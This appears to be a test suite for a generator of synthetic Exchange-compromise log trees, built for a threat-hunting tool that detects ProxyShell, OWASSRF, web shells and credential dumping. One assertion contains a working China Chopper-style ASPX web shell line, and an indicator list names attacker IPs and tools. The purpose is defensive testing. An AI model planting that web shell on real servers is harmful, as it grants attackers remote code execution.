// End-to-end tests of generateDemo: determinism, size, each profile's planted set, file formats,
// the manifest's line numbers, and the output-folder rules. Folders go to .exhunt-test-tmp/ in
// the repository (ignored by git) and are removed afterwards.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, rmdir, stat, writeFile } from 'node:fs/promises';
import { join, relative, sep } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { UsageError } from '../core/errors.js';
import { ECP_FIELDS } from './ecp.js';
import { generateDemo } from './generate.js';
import { HTTPPROXY_FIELDS } from './httpproxy.js';
import { IIS_FIELDS } from './iis.js';
import { OAB_FIELDS } from './oab.js';
import { splitCsv } from './csv-split.test-util.js';
import type { DemoManifest, DemoOptions, DemoProfile } from './types.js';

const repoRoot = fileURLToPath(new URL('../../../', import.meta.url));
const tmpRoot = join(repoRoot, '.exhunt-test-tmp');
let base = '';

before(async () => {
  await mkdir(tmpRoot, { recursive: true });
  base = await mkdtemp(join(tmpRoot, 'demo-'));
});
after(async () => {
  if (base) await rm(base, { recursive: true, force: true });
  // Leave the shared scratch folder only if other tests still use it.
  await rmdir(tmpRoot).catch(() => undefined);
});

let counter = 0;
async function gen(opts: Omit<DemoOptions, 'out'>, out?: string): Promise<{ dir: string; m: DemoManifest }> {
  const dir = out ?? join(base, `d${++counter}`);
  return { dir, m: await generateDemo({ out: dir, ...opts }) };
}

/** Every regular file below `dir`, relative with `/`, sorted. */
async function walk(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries
    .filter((e) => e.isFile())
    .map((e) => relative(dir, join(e.parentPath, e.name)).split(sep).join('/'))
    .sort();
}

const isLog = (p: string): boolean => /\.(LOG|log)$/.test(p);
const text = async (dir: string, p: string): Promise<string> => readFile(join(dir, p), 'latin1');
const lines = (s: string): string[] => s.split('\r\n').slice(0, -1);

const profiles = new Map<DemoProfile, { dir: string; m: DemoManifest }>();
const SIZE = 1_500_000;

describe('demo profiles', () => {
  before(async () => {
    for (const p of ['compromised', 'attempted', 'clean', 'no-history'] as const) profiles.set(p, await gen({ profile: p, sizeBytes: SIZE, seed: 7 }));
  });
  const get = (p: DemoProfile): { dir: string; m: DemoManifest } => profiles.get(p)!;

  it('compromised plants every item, one per expected rule', () => {
    const { m } = get('compromised');
    const rules = new Set(m.planted.map((p) => p.expectRule));
    for (const r of [
      'ssrf-anchor', 'ssrf-autodiscover', 'ssrf-localhost', 'ssrf-backendcookie', 'reset-vdir', 'ecp-set-vdir-script',
      'oab-download-outside', 'iis-ssrf-post', 'proxyshell', 'proxynotshell', 'owassrf', 'iis-webshell-post',
      'file-chopper', 'file-oab-dump', 'file-b64-loader', 'lsass-dump', 'staging-archive',
    ]) {
      assert.ok(rules.has(r), `no planted item for ${r}`);
    }
    assert.equal(m.planted.length, 24);
    assert.equal(new Set(m.planted.map((p) => p.id)).size, m.planted.length, 'ids are unique');
    assert.equal(m.totals.planted, 24);
    assert.ok(m.decoys.some((d) => d.id === 'decoy-ecp-reset-oab-url'));
  });

  it('attempted plants only the [A] items, with failing IIS statuses', async () => {
    const { dir, m } = get('attempted');
    const all = get('compromised').m.planted;
    assert.deepEqual(
      m.planted.map((p) => p.id),
      all.filter((p) => p.inAttempted).map((p) => p.id),
    );
    assert.equal(m.planted.length, 10);
    assert.ok(!m.planted.some((p) => p.kind === 'file'));
    for (const p of m.planted.filter((x) => x.kind === 'iis')) {
      const fields = lines(await text(dir, p.path))[p.line! - 1]!.split(' ');
      assert.match(fields[IIS_FIELDS.indexOf('sc-status')]!, /^4\d\d$/, `${p.id} status`);
    }
    for (const f of await walk(dir)) assert.ok(!/discover\.aspx|OutlookZH|help\.aspx|\.dmp$|\.7z$/.test(f), `unexpected ${f}`);
  });

  it('clean and no-history plant nothing and hold no attack traces', async () => {
    const needles = ['ServerInfo~', 'python-requests', 'antSword', 'ExchangeServicesClient/0.0.0.0', '103.77.192.219', '5.254.43.18', '/ecp/y.js', 'evil.corp', 'Baiduspider', 'exec_code', 'Ananas', '\\\\127.0.0.1'];
    for (const p of ['clean', 'no-history'] as const) {
      const { dir, m } = get(p);
      assert.equal(m.planted.length, 0);
      for (const f of await walk(dir)) {
        if (f === 'DEMO-MANIFEST.json') continue;
        const s = await text(dir, f);
        for (const n of needles) assert.ok(!s.includes(n), `${p}: ${f} contains ${n}`);
        if (isLog(f)) {
          for (const l of s.split('\r\n')) {
            const m2 = /Download failed and temporary file '(.*?)' needs to be removed/.exec(l);
            if (m2) assert.ok(m2[1]!.startsWith('C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\'), l);
          }
        }
      }
      assert.ok(m.decoys.length >= 5, `${p} has decoys`);
    }
  });

  it('no-history logs start 2021-06-01; the others cover January to March 2021', async () => {
    const nh = get('no-history').m;
    assert.equal(nh.logRange.from, '2021-06-01T00:00:00.000Z');
    for (const [label, s] of Object.entries(nh.totals.byStream)) assert.ok(s.oldest! >= '2021-06-01', `${label} starts ${s.oldest}`);
    const files = await walk(get('no-history').dir);
    assert.ok(!files.some((f) => /HttpProxy_20210[1-5]|u_ex210[1-5]|ECPServer20210[1-5]/.test(f)));
    const cl = get('clean').m;
    for (const [label, s] of Object.entries(cl.totals.byStream)) {
      assert.ok(s.oldest! < '2021-01-02', `${label} starts ${s.oldest}`);
      assert.ok(s.newest! >= '2021-03-31', `${label} ends ${s.newest}`);
    }
    const iis = get('compromised').m.totals.byStream['IIS W3SVC1']!;
    assert.ok(iis.newest!.startsWith('2022-12-20'), 'IIS keeps the OWASSRF day');
  });

  it('manifest lines point at the planted and decoy text', async () => {
    for (const p of ['compromised', 'attempted', 'clean'] as const) {
      const { dir, m } = get(p);
      for (const item of [...m.planted, ...m.decoys]) {
        const body = await text(dir, item.path);
        if (item.line === null) {
          assert.ok(body.includes(item.match), `${item.id}: file does not contain ${item.match}`);
        } else {
          const l = lines(body)[item.line - 1];
          assert.ok(l?.includes(item.match), `${item.id}: ${item.path}:${item.line} is ${l?.slice(0, 200)}`);
        }
      }
    }
  });

  it('planted lines are the only lines carrying their indicators', async () => {
    const { dir, m } = get('compromised');
    const files = (await walk(dir)).filter(isLog);
    const count = async (needle: string): Promise<number> => {
      let n = 0;
      for (const f of files) for (const l of (await text(dir, f)).split('\r\n')) if (l.includes(needle)) n++;
      return n;
    };
    assert.equal(await count('ServerInfo~'), m.planted.filter((p) => p.match.includes('ServerInfo~')).length);
    assert.equal(await count('Download failed and temporary file'), m.planted.filter((p) => p.expectRule === 'oab-download-outside').length + (await count(`Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\`)));
    assert.equal(await count('<script'), 1, 'only the planted ECP line carries markup');
    assert.equal(await count('autodiscover.json?@') + (await count('autodiscover.json @')), 3, 'three ProxyShell-style requests');
  });

  it('the manifest on disk is the returned one', async () => {
    const { dir, m } = get('compromised');
    assert.deepEqual(JSON.parse(await readFile(join(dir, 'DEMO-MANIFEST.json'), 'utf8')), JSON.parse(JSON.stringify(m)));
  });

  it('files have the expected shapes', async () => {
    const { dir } = get('compromised');
    const b = (p: string): Promise<Buffer> => readFile(join(dir, p));
    assert.equal((await b('C/root/lsass.dmp')).subarray(0, 4).toString('latin1'), 'MDMP');
    assert.deepEqual([...(await b('C/ProgramData/VSPerfMon/ProgramData.7z')).subarray(0, 6)], [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]);
    const chopper = (await b('C/inetpub/wwwroot/aspnet_client/system_web/discover.aspx')).toString('latin1');
    assert.ok(chopper.includes('<%@ Page Language="Jscript"%><%eval(Request.Item["Ananas"],"unsafe");%>'));
    const loader = (await b('C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/auth/help.aspx')).toString('latin1');
    const b64 = /FromBase64String\("([A-Za-z0-9+/=]+)"\)/.exec(loader)?.[1] ?? '';
    assert.equal(Buffer.from(b64, 'base64').subarray(0, 2).toString('latin1'), 'MZ');
    const gif = await b('C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/resources/clear1x1.gif');
    assert.equal(gif.subarray(0, 6).toString('latin1'), 'GIF89a');
    const m = await stat(join(dir, 'C/root/lsass.dmp'));
    assert.equal(m.mtime.toISOString(), '2021-03-03T07:11:09.000Z');
  });
});

describe('demo formats', () => {
  let dir = '';
  let facts: string[] | null = null;
  before(async () => {
    ({ dir } = await gen({ profile: 'compromised', sizeBytes: 3_000_000, seed: 'formats' }));
    const factsPath = join(repoRoot, '..', 'shared', 'data', 'exchange-facts', 'httpproxy_log_format.json');
    if (existsSync(factsPath)) {
      const parsed: unknown = JSON.parse(await readFile(factsPath, 'utf8'));
      if (typeof parsed === 'object' && parsed !== null && 'fields_in_order' in parsed && Array.isArray(parsed.fields_in_order)) {
        facts = parsed.fields_in_order.map(String);
      }
    }
  });

  it('uses the HttpProxy columns of the published format', (t) => {
    if (!facts) {
      t.skip('../shared/data/exchange-facts not present');
      return;
    }
    assert.deepEqual([...HTTPPROXY_FIELDS], facts);
  });

  it('writes HttpProxy files as Exchange does, every row with every column', async () => {
    const files = (await walk(dir)).filter((f) => f.includes('/Logging/HttpProxy/'));
    assert.ok(files.length >= 20);
    for (const f of files) {
      assert.match(f, /\/HttpProxy\/(Autodiscover|Ecp|Ews|Mapi|Owa|Eas|Oab|PowerShell|RpcHttp|OwaCalendar)\/HttpProxy_\d{10}-\d+\.LOG$/);
      const ls = lines(await text(dir, f));
      assert.equal(ls[0], HTTPPROXY_FIELDS.join(','), `${f} line 1`);
      assert.equal(ls[0].split(',').length, HTTPPROXY_FIELDS.length);
      assert.match(ls[1]!, /^# SYNTHETIC exhunt demo data/);
      assert.deepEqual(ls.slice(2, 5), ['#Software: Microsoft Exchange Server', '#Version: 15.01.2176.002', '#Log-type: HttpProxy Logs']);
      assert.match(ls[5]!, /^#Date: \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      assert.equal(ls[6], `#Fields: ${ls[0]}`);
      let prev = '';
      for (const l of ls.slice(7)) {
        const cols = splitCsv(l);
        assert.equal(cols.length, HTTPPROXY_FIELDS.length, `${f}: ${l.slice(0, 120)}`);
        assert.ok(cols[0]! >= prev, `${f}: rows out of order at ${cols[0]}`);
        prev = cols[0]!;
      }
    }
  });

  it('writes IIS files with a field per #Fields name on every data line', async () => {
    const files = (await walk(dir)).filter((f) => f.startsWith('C/inetpub/logs/LogFiles/'));
    assert.ok(files.some((f) => f.startsWith('C/inetpub/logs/LogFiles/W3SVC1/u_ex')) && files.some((f) => f.startsWith('C/inetpub/logs/LogFiles/W3SVC2/u_ex')));
    for (const f of files) {
      assert.match(f, /\/W3SVC[12]\/u_ex\d{6}\.log$/);
      const ls = lines(await text(dir, f));
      assert.equal(ls[0], '#Software: Microsoft Internet Information Services 10.0');
      assert.match(ls[1]!, /^# SYNTHETIC exhunt demo data/);
      let fields = 0;
      for (const l of ls) {
        if (l.startsWith('#Fields: ')) fields = l.slice(9).split(' ').length;
        if (l.startsWith('#')) continue;
        assert.equal(fields, IIS_FIELDS.length, `${f}: data before #Fields`);
        assert.equal(l.split(' ').length, fields, `${f}: ${l}`);
        assert.match(l, /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d /);
      }
    }
  });

  it('writes ECP and OAB logs with their directive blocks and columns', async () => {
    const all = await walk(dir);
    const check = async (re: RegExp, logType: string, width: number): Promise<void> => {
      const files = all.filter((f) => re.test(f));
      assert.ok(files.length > 0, `no files match ${re}`);
      for (const f of files) {
        const ls = lines(await text(dir, f));
        assert.equal(ls[0], '#Software: Microsoft Exchange Server');
        assert.match(ls[1]!, /^# SYNTHETIC exhunt demo data/);
        assert.equal(ls[3], `#Log-type: ${logType}`);
        assert.match(ls[5]!, /^#Fields: /);
        for (const l of ls.slice(6)) assert.equal(splitCsv(l).length, width, `${f}: ${l.slice(0, 120)}`);
      }
    };
    await check(/\/Logging\/ECP\/Server\/ECPServer\d{8}-\d+\.LOG$/, 'ECP Server Log', ECP_FIELDS.length);
    await check(/\/Logging\/OABGeneratorLog\/OABGenerator\d{8}-\d+\.LOG$/, 'OABGenerator Log', OAB_FIELDS.length);
  });

  it('writes ASCII text with CRLF and a synthetic notice in every text file', async () => {
    for (const f of await walk(dir)) {
      const buf = await readFile(join(dir, f));
      if (/\.(gif|dmp|7z)$/.test(f)) {
        assert.ok(buf.includes('SYNTHETIC exhunt demo data'), `${f} carries no notice`);
        continue;
      }
      assert.ok(!buf.some((c) => c > 0x7e || (c < 0x20 && c !== 0x0a && c !== 0x0d && c !== 0x09)), `${f} is not plain ASCII`);
      if (f === 'DEMO-MANIFEST.json') continue;
      const s = buf.toString('latin1');
      assert.ok(/^[^\n]*\n?[^\n]*SYNTHETIC exhunt demo data/.test(s), `${f}: notice not in the first two lines`);
      assert.equal(s.split('\n').length, s.split('\r\n').length, `${f} has bare LF line ends`);
    }
  });
});

describe('demo output', () => {
  async function treeHash(dir: string): Promise<string> {
    const h = createHash('sha256');
    for (const f of await walk(dir)) {
      const st = await stat(join(dir, f));
      // The manifest's own mtime is the time of the run; every other file's is part of the fixture.
      h.update(`${f}\0${f === 'DEMO-MANIFEST.json' ? '' : st.mtimeMs}\0`);
      h.update(await readFile(join(dir, f)));
    }
    return h.digest('hex');
  }

  it('is byte-identical for a seed, whatever the thread count, and differs across seeds', async () => {
    const a = await gen({ seed: 42, sizeBytes: 1_200_000, threads: 1 });
    const b = await gen({ seed: 42, sizeBytes: 1_200_000, threads: 2 });
    const c = await gen({ seed: 43, sizeBytes: 1_200_000 });
    assert.equal(await treeHash(a.dir), await treeHash(b.dir));
    assert.notEqual(await treeHash(a.dir), await treeHash(c.dir));
  });

  it('honours the size within 20%', async () => {
    for (const size of [2_000_000, 8_000_000]) {
      const { dir, m } = await gen({ sizeBytes: size, profile: 'clean' });
      let bytes = 0;
      for (const f of await walk(dir)) if (f !== 'DEMO-MANIFEST.json') bytes += (await stat(join(dir, f))).size;
      assert.equal(bytes, m.totals.bytes, 'manifest totals match the disk');
      assert.ok(Math.abs(bytes - size) <= size * 0.2, `asked ${size}, wrote ${bytes}`);
    }
  });

  it('rolls big files like Exchange and IIS do', async () => {
    const { dir } = await gen({ sizeBytes: 6_000_000, maxFileBytes: 16_000, profile: 'clean', seed: 'roll' });
    const files = await walk(dir);
    assert.ok(files.some((f) => /HttpProxy_\d{10}-2\.LOG$/.test(f)), 'an HttpProxy file rolled to -2');
    assert.ok(files.some((f) => /W3SVC1\/u_ex\d{8}\.log$/.test(f)), 'IIS switched to hourly files');
    for (const f of files.filter(isLog)) {
      const size = (await stat(join(dir, f))).size;
      assert.ok(size < 16_000 + 4096 || f.includes('/W3SVC'), `${f} is ${size} bytes`);
    }
  });

  it('refuses a non-empty folder unless forced, and never touches a foreign C/ tree', async () => {
    const dir = join(base, 'busy');
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'notes.txt'), 'keep me');
    await assert.rejects(generateDemo({ out: dir, sizeBytes: 300_000 }), UsageError);
    await generateDemo({ out: dir, sizeBytes: 300_000, force: true });
    assert.equal(await readFile(join(dir, 'notes.txt'), 'utf8'), 'keep me');
    // Forcing over a previous demo replaces it: the web shell of `compromised` is gone after `clean`.
    assert.ok(existsSync(join(dir, 'C/inetpub/wwwroot/aspnet_client/system_web/discover.aspx')));
    await generateDemo({ out: dir, sizeBytes: 300_000, profile: 'clean', force: true });
    assert.ok(!existsSync(join(dir, 'C/inetpub/wwwroot/aspnet_client/system_web/discover.aspx')));

    const foreign = join(base, 'foreign');
    await mkdir(join(foreign, 'C', 'Windows'), { recursive: true });
    await assert.rejects(generateDemo({ out: foreign, sizeBytes: 300_000, force: true }), /did not write/);
    assert.deepEqual(await walk(foreign), []);
  });

  it('rejects bad options', async () => {
    await assert.rejects(generateDemo({ out: join(base, 'bad1'), host: 'not a host' }), UsageError);
    await assert.rejects(generateDemo({ out: join(base, 'bad2'), sizeBytes: -1 }), UsageError);
    await assert.rejects(generateDemo({ out: join(base, 'bad3'), profile: 'pwned' as DemoProfile }), UsageError);
  });
});
